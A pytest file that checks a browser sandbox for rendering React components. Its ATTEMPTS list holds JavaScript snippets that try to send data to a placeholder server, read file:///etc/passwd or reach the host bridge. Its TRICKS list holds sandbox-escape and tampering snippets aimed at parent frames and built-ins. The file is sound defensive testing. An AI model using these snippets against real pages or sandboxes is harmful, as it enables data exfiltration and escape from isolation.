"""Hostile components in the browser: nothing leaves it, and the next trial is as good as the first."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import ClassVar

import pytest

from clean_carry.verify.browser.browser_run import Gaze
from clean_carry.verify.browser.views import View
from clean_carry.verify.client import WorkerFailed
from clean_carry.verify.runtimes import RUNTIMES
from clean_carry.verify.worker_pool import Bench, Side

# Each tries to reach SERVER, or a file; `got(x)` with whatever it could lay hands on.
ATTEMPTS = {
    "request": "fetch('SERVER/a');",
    "request of a frame": "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch('SERVER/b').then(() => got('root: reached'));",
    "request of the bench": "parent.fetch('SERVER/c').then(() => got('root: reached'));",
    "picture": "new Image().src = 'SERVER/d';",
    "stylesheet": "const s = document.createElement('style'); s.textContent = '@import url(SERVER/e); body { background: url(SERVER/f) }'; document.head.append(s);",
    "script": "const s = document.createElement('script'); s.src = 'SERVER/g'; document.body.append(s);",
    "navigation": "location.href = 'SERVER/h';",
    "navigation of the top": "top.location.href = 'SERVER/i';",
    "form": "const f = document.createElement('form'); f.action = 'SERVER/j'; f.method = 'post'; document.body.append(f); f.submit();",
    "window": "window.open('SERVER/k'); parent.open('SERVER/l');",
    "socket": "new parent.WebSocket('SERVER/m'.replace('http', 'ws'));",
    "beacon": "navigator.sendBeacon('SERVER/n', 'x');",
    "worker": "const w = new parent.Worker(URL.createObjectURL(new Blob(['fetch(\"SERVER/o\")']))); w.onmessage = got;",
    "hint": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'SERVER/p'; document.head.append(l); const d = l.cloneNode(); d.rel = 'preconnect'; document.head.append(d);",
    "file": "const f = document.createElement('iframe'); f.src = 'file:///etc/passwd'; f.onload = () => got(f.contentDocument ? f.contentDocument.body.textContent : ''); document.body.append(f);",
    "the host": "parent.__hand(JSON.stringify({ mouse: 'mousePressed', x: 1e9, y: 'x' })); got(typeof process === 'undefined' ? '' : 'root: process');",
}


class _Heard(BaseHTTPRequestHandler):
    heard: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        """Note that somebody got through."""
        self.heard.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def server() -> Iterator[str]:
    made = HTTPServer(("127.0.0.1", 0), _Heard)
    threading.Thread(target=made.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{made.server_port}"
    made.shutdown()


@pytest.fixture(scope="module")
def looking() -> Iterator[Bench]:
    with Bench(gaze=Gaze()) as made:
        yield made


def side(body: str, folder: Path) -> Side:
    text = f"""
    import React from 'react';
    export default class Hostile extends React.Component {{
      componentDidMount() {{ const got = (x) => this.props.onGot(String(x)); {body} }}
      render() {{ return <b>here</b>; }}
    }}"""
    return Side(folder / "Hostile.jsx", text, RUNTIMES["react-18"])


REQUEST = {"inputs": {}, "functions": {"onGot": {}}, "steps": [{"pass": 1000}]}


@pytest.mark.parametrize("name", ATTEMPTS)
def test_nothing_leaves_the_browser(looking: Bench, server: str, tmp_path: Path, name: str) -> None:
    _Heard.heard.clear()
    hostile = looking.build(side(ATTEMPTS[name].replace("SERVER", server), tmp_path))
    plain = looking.build(side("", tmp_path))
    with looking.browser() as browser:
        try:
            answer = browser.trial(hostile, "", REQUEST, slot="old", view=View(400))
            calls = str([point["calls"] for point in answer["points"]])
            assert "root:" not in calls
        except WorkerFailed:
            pass  # a trial is lost, no more
        after = browser.trial(plain, "", REQUEST, slot="old", view=View(400))
    assert after["points"][0]["tree"][0][3] == ["here"]
    assert _Heard.heard == []


# Each tries to have the harness see something else than what is shown, or to reach into it. `root:` is what must not be got.
TRICKS = {
    "its own name": "if (parent.bench || top.harness || window.harness || top.bench) got('root: bench');",
    "frames of the page": "for (let n = 0; n < top.length; n++) if (top[n] !== window) got('root: another frame'); for (const f of top.document.querySelectorAll('iframe')) got('root: a frame');",
    "frames by name": "for (const name of ['old', 'new', 'blank', 'bench']) { const w = top.open('', name); if (w && w.document && w.document.querySelector('b')) got('root: a frame'); }",
    "the root around": "const r = frameElement.getRootNode(); if (r.querySelectorAll('iframe').length > 1) got('root: beside'); for (const h of r.host.parentNode.children) if (h.shadowRoot) got('root: open');",
    "another realm's way": "const f = document.createElement('iframe'); document.body.append(f); const g = Object.getOwnPropertyDescriptor(f.contentWindow, 'frameElement').get.call(window); if (g.getRootNode().querySelectorAll('iframe').length > 1) got('root: beside');",
    "a maker of functions": "for (const f of [setTimeout, matchMedia, fetch, ResizeObserver, EventTarget.prototype.addEventListener]) { const g = f.constructor && f.constructor('return this')(); if (g && g !== window && g.harness) got('root: harness'); }",
    "a maker of async functions": "const A = Object.getPrototypeOf(async () => {}).constructor; const F = Object.getPrototypeOf(setTimeout).constructor; if (F && F !== Function) got('root: a maker');",
    "built-ins of the harness": "const O = Object.getPrototypeOf(Object.getPrototypeOf(setTimeout)); try { O.constructor.keys = () => []; O.toJSON = () => 'same'; O.constructor.stash = 1; } catch {} if (O !== Object.prototype && O.constructor.stash) got('root: kept');",
    "built-ins of the page around": "top.JSON.stringify = () => 'same'; top.Array.prototype.push = () => 0; top.Promise.prototype.then = () => {}; top.Element.prototype.getBoundingClientRect = () => ({ left: 0, top: 0, width: 0, height: 0 }); top.Element.prototype.remove = () => {};",
    "what is read of elements": "Element.prototype.matches = () => false; Element.prototype.getAttribute = () => 'same'; Element.prototype.getAttributeNames = () => []; Element.prototype.getBoundingClientRect = () => ({ left: 0, top: 0, width: 9, height: 9 }); Element.prototype.getClientRects = () => []; Node.prototype.cloneNode = () => document.createElement('i');",
    "what is read of styles": "window.getComputedStyle = () => ({ getPropertyValue: () => 'same', content: 'none' }); CSSStyleDeclaration.prototype.getPropertyValue = () => 'same'; Object.defineProperty(CSSStyleSheet.prototype, 'cssRules', { get: () => [] }); Object.defineProperty(Document.prototype, 'styleSheets', { get: () => [] }); window.matchMedia = () => ({ matches: false });",
    "the way to the host": "Promise.resolve(top.__look && top.__look(JSON.stringify({ secret: '', what: { slot: 'old', picture: true } }))).then((a) => { if (a && a.includes('accessible')) got('root: looked'); }); top.__hand && top.__hand(JSON.stringify({ what: { mouse: 'mousePressed', x: 1, y: 1 } }));",
    "the way in a new frame": "const f = document.createElement('iframe'); document.body.append(f); for (const name of Object.keys(f.contentWindow)) if (name.includes('secret')) got('root: ' + name);",
    "the page around": "top.document.body.innerHTML = '';",
    "the page around for good": "top.location.replace('about:blank'); top.close(); top.stop();",
}


def drawn(word: str, body: str, folder: Path) -> Side:
    text = f"""
    import React from 'react';
    export default class Hostile extends React.Component {{
      componentDidMount() {{ const got = (x) => this.props.onGot(String(x)); try {{ {body} }} catch {{}} }}
      render() {{ return <b title="{word}" style={{{{ color: '{word}' }}}}>{word}</b>; }}
    }}"""
    return Side(folder / "Hostile.jsx", text, RUNTIMES["react-18"])


@pytest.mark.parametrize("name", TRICKS)
def test_the_harness_is_not_reached(looking: Bench, tmp_path: Path, name: str) -> None:
    pair = [looking.build(drawn(word, TRICKS[name], tmp_path)) for word in ("red", "blue")]
    plain = looking.build(side("", tmp_path))
    with looking.browser() as browser:
        seen = []
        for slot, bundle in zip(("old", "new"), pair, strict=True):
            try:
                answer = browser.trial(bundle, "", REQUEST, slot=slot, view=View(400))
            except WorkerFailed:
                continue  # a trial is lost, no more
            assert "root:" not in str([point["calls"] for point in answer["points"]])
            point = answer["points"][0]
            own = point["look"]["elements"][0]["style"]["own"]
            seen.append((point["tree"][0][1]["title"], point["tree"][0][3], own["color"]))
        colours = [("red", ["red"], "rgb(255, 0, 0)"), ("blue", ["blue"], "rgb(0, 0, 255)")]
        assert seen in (colours, colours[:1], colours[1:], [])
        after = browser.trial(plain, "", REQUEST, slot="old", view=View(400))
    assert after["points"][0]["tree"][0][3] == ["here"]
